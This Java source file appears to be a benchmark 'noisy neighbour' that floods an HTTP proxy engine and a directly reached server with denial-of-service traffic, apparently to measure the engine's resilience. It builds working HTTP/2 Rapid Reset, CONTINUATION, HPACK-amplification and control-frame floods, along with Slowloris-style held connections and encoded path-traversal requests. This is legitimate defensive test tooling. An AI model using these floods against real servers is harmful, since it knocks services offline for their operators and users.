package dev.drawbridge.bench;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A bad neighbour, in a container. Reads names of attacks, one a line, and answers with how many
 * lots of the one before it has sent; {@code quiet} stops. Sends as fast as it is let: to the
 * callee that it has through the engine, and after the word {@code past} to one that it reaches
 * without.
 */
final class NoisyPeer {
  /** What is sent on a connection, over and over, until the other end has had enough. */
  enum Attack {
    LONG_PATHS(16),
    DENIED_REQUESTS(16),
    NEW_CONNECTIONS(2),
    UNFINISHED_HEADS(2),
    IDLE_CONNECTIONS(2),
    UNREAD_ANSWERS(2),
    SETTINGS_WINDOWS(4),
    SETTINGS(4),
    PINGS(4),
    PRIORITIES(4),
    WINDOW_UPDATES(4),
    EMPTY_DATA(4),
    RAPID_RESETS(4),
    CONTINUATIONS(4),
    HPACK_REFERENCES(4),
    DENIED_STREAMS(4),

    /** Sends nothing and takes all processors that it gets. */
    SPINNING(2);

    /** Threads that do it. */
    final int threads;

    Attack(int threads) {
      this.threads = threads;
    }
  }

  private static final int KEPT = 4_000;
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0".getBytes(StandardCharsets.ISO_8859_1);

  private static final int HTTP1 = 80;

  /** The callee that is reached past the engine has a port of its own for HTTP/2. */
  private static final int HTTP2 = 81;

  private final InetSocketAddress callee;
  private final InetAddress plain;
  private final AtomicLong lots = new AtomicLong();
  private final AtomicLong round = new AtomicLong();
  private final Set<Socket> open = ConcurrentHashMap.newKeySet();
  private final List<Thread> threads = new ArrayList<>();

  private NoisyPeer(InetAddress callee, InetAddress plain) {
    this.callee = new InetSocketAddress(callee, HTTP1);
    this.plain = plain;
  }

  /** Where to: the attack, or the attack and {@code past}. */
  private InetSocketAddress target(Attack attack, boolean past) {
    if (!past) {
      return callee;
    }
    return new InetSocketAddress(plain, speaksHttp2(attack) ? HTTP2 : HTTP1);
  }

  private static boolean speaksHttp2(Attack attack) {
    return attack.compareTo(Attack.SETTINGS_WINDOWS) >= 0;
  }

  public static void main(String[] arguments) throws IOException {
    NoisyPeer peer =
        new NoisyPeer(InetAddress.getByName(arguments[0]), InetAddress.getByName(arguments[1]));
    BufferedReader in =
        new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
    for (String line = in.readLine(); line != null; line = in.readLine()) {
      long now = peer.round.incrementAndGet();
      peer.end();
      System.out.println(peer.lots.getAndSet(0));
      if (!line.equals("quiet")) {
        String[] words = line.split(" ", -1);
        Attack attack = Attack.valueOf(words[0]);
        InetSocketAddress target = peer.target(attack, words.length > 1);
        for (int i = 0; i < attack.threads; i++) {
          peer.threads.add(
              Thread.ofPlatform().daemon().start(() -> peer.attack(attack, target, now)));
        }
      }
    }
  }

  /** Resets all connections, so that nothing that was sent is still worked on. */
  private void end() {
    while (!threads.isEmpty()) {
      for (Socket socket : open) {
        try {
          socket.setSoLinger(true, 0);
        } catch (IOException _) {
          // Closed by the other end.
        }
        close(socket);
      }
      threads.removeIf(thread -> !thread.isAlive());
      Thread.onSpinWait();
    }
    open.clear();
  }

  private void close(Socket socket) {
    open.remove(socket);
    try {
      socket.close();
    } catch (IOException _) {
      // Closed by the other end.
    }
  }

  private void attack(Attack attack, InetSocketAddress target, long mine) {
    while (attack == Attack.SPINNING && round.get() == mine) {
      Thread.onSpinWait();
    }
    Deque<Socket> kept = new ArrayDeque<>();
    byte[] first = first(attack);
    byte[] lot = lot(attack);
    while (round.get() == mine) {
      Socket socket = new Socket();
      open.add(socket);
      try {
        socket.setSoTimeout(1_000);
        if (attack == Attack.UNREAD_ANSWERS) {
          socket.setReceiveBufferSize(4_096);
        }
        socket.connect(target, 1_000);
        if (keeps(attack)) {
          kept.add(socket);
          socket.getOutputStream().write(first);
          lots.incrementAndGet();
          if (kept.size() > KEPT / attack.threads) {
            close(kept.remove());
          }
        } else {
          repeat(attack, socket, first, lot, mine);
          close(socket);
        }
      } catch (IOException _) {
        // It has had enough of this connection.
        if (!kept.contains(socket)) {
          close(socket);
        }
      }
    }
  }

  private static boolean keeps(Attack attack) {
    return switch (attack) {
      case UNFINISHED_HEADS, IDLE_CONNECTIONS, UNREAD_ANSWERS -> true;
      default -> false;
    };
  }

  private void repeat(Attack attack, Socket socket, byte[] first, byte[] lot, long mine)
      throws IOException {
    OutputStream out = socket.getOutputStream();
    out.write(first);
    if (attack == Attack.NEW_CONNECTIONS) {
      lots.incrementAndGet();
      byte[] answer = new byte[4_096];
      int _ = socket.getInputStream().read(answer);
      return;
    }
    Thread reader = Thread.ofPlatform().daemon().start(() -> drain(socket));
    ByteBuffer bytes = ByteBuffer.wrap(lot.clone());
    for (int stream = 5; round.get() == mine && stream < 1 << 30; ) {
      stream = number(attack, bytes, stream);
      out.write(bytes.array());
      lots.incrementAndGet();
    }
    reader.interrupt();
  }

  /** Gives the streams of a lot their next numbers. */
  private static int number(Attack attack, ByteBuffer bytes, int next) {
    int stream = next;
    if (attack == Attack.RAPID_RESETS
        || attack == Attack.DENIED_STREAMS
        || attack == Attack.HPACK_REFERENCES) {
      for (int at = 0; at < bytes.limit(); ) {
        int length = bytes.getInt(at) >>> 8;
        int type = bytes.get(at + 3);
        if (type == 1) {
          stream += 2;
        }
        bytes.putInt(at + 5, stream);
        at += 9 + length;
      }
    }
    return stream;
  }

  private static void drain(Socket socket) {
    byte[] buffer = new byte[65_536];
    try {
      InputStream in = socket.getInputStream();
      while (in.read(buffer) >= 0) {
        // Only so that the other end can go on.
      }
    } catch (IOException _) {
      // Over.
    }
  }

  // What is sent.

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] first(Attack attack) {
    return switch (attack) {
      case LONG_PATHS, DENIED_REQUESTS, IDLE_CONNECTIONS -> new byte[0];
      case NEW_CONNECTIONS -> ascii("GET /denied HTTP/1.1\r\nHost: a\r\n\r\n");
      case UNFINISHED_HEADS ->
          ascii("GET / HTTP/1.1\r\nHost: a\r\n" + ("X: " + "y".repeat(1_000) + "\r\n").repeat(58));
      case UNREAD_ANSWERS -> ascii("GET /blob HTTP/1.1\r\nHost: a\r\n\r\n");
      case SETTINGS_WINDOWS, EMPTY_DATA, WINDOW_UPDATES, CONTINUATIONS -> {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(PREFACE);
        for (int i = 0; i < (attack == Attack.SETTINGS_WINDOWS ? 90 : 2); i++) {
          all.writeBytes(frame(1, attack == Attack.CONTINUATIONS ? 0 : 4, 2 * i + 1, REQUEST));
          if (attack == Attack.CONTINUATIONS) {
            break;
          }
        }
        yield all.toByteArray();
      }
      case SETTINGS, PINGS, PRIORITIES, RAPID_RESETS, HPACK_REFERENCES, DENIED_STREAMS, SPINNING ->
          PREFACE;
    };
  }

  /** POST http /blob of host a, without the tables' help but for the static one. */
  private static final byte[] REQUEST = section("/blob");

  private static byte[] section(String path) {
    ByteArrayOutputStream section = new ByteArrayOutputStream();
    section.write(0x83);
    section.write(0x86);
    section.writeBytes(new byte[] {0x01, 1, 'a', 0x04, (byte) path.length()});
    section.writeBytes(ascii(path));
    return section.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putInt(payload.length << 8 | type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] lot(Attack attack) {
    return switch (attack) {
      case LONG_PATHS ->
          ascii("GET /" + "%2e%2f;a%252e/".repeat(1_150) + " HTTP/1.1\r\nHost: a\r\n\r\n");
      case DENIED_REQUESTS -> ascii("GET /denied HTTP/1.1\r\nHost: a\r\n\r\n".repeat(200));
      case NEW_CONNECTIONS, UNFINISHED_HEADS, IDLE_CONNECTIONS, UNREAD_ANSWERS, SPINNING ->
          new byte[0];
      case SETTINGS_WINDOWS -> {
        ByteBuffer entries = ByteBuffer.allocate(2_730 * 6);
        for (int i = 0; i < 2_730; i++) {
          entries.putShort((short) 4).putInt(1_000 + i % 2);
        }
        yield frame(4, 0, 0, entries.array());
      }
      case SETTINGS -> repeat(frame(4, 0, 0, new byte[0]), 100);
      case PINGS -> repeat(frame(6, 0, 0, new byte[8]), 100);
      case PRIORITIES -> repeat(frame(2, 0, 3, new byte[5]), 100);
      case WINDOW_UPDATES -> repeat(frame(8, 0, 1, new byte[] {0, 0, 4, 0}), 100);
      case EMPTY_DATA -> repeat(frame(0, 0, 1, new byte[0]), 100);
      case RAPID_RESETS ->
          repeat(concat(frame(1, 5, 1, REQUEST), frame(3, 0, 1, new byte[] {0, 0, 0, 8})), 50);
      case CONTINUATIONS -> frame(9, 0, 1, new byte[16_000]);
      case HPACK_REFERENCES -> {
        ByteArrayOutputStream section = new ByteArrayOutputStream();
        section.writeBytes(REQUEST);
        section.writeBytes(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0x81, 0x1e});
        section.writeBytes(new byte[4_000]);
        for (int i = 0; i < 12_000; i++) {
          section.write(0xbe);
        }
        yield frame(1, 5, 1, section.toByteArray());
      }
      case DENIED_STREAMS -> repeat(frame(1, 5, 1, section("/denied")), 50);
    };
  }

  private static byte[] concat(byte[] one, byte[] other) {
    return ByteBuffer.allocate(one.length + other.length).put(one).put(other).array();
  }

  private static byte[] repeat(byte[] one, int times) {
    ByteBuffer all = ByteBuffer.allocate(one.length * times);
    for (int i = 0; i < times; i++) {
      all.put(one);
    }
    return all.array();
  }
}
